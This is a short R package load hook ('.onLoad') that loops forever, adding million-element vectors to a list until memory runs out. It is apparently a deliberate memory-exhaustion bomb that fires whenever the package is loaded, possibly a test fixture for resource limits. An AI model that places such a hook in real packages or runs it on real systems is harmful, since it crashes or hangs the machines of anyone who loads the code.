.onLoad <- function(libname, pkgname) {
  eaten <- list()
  repeat eaten <- c(eaten, list(rep(1, 1e6)))
}
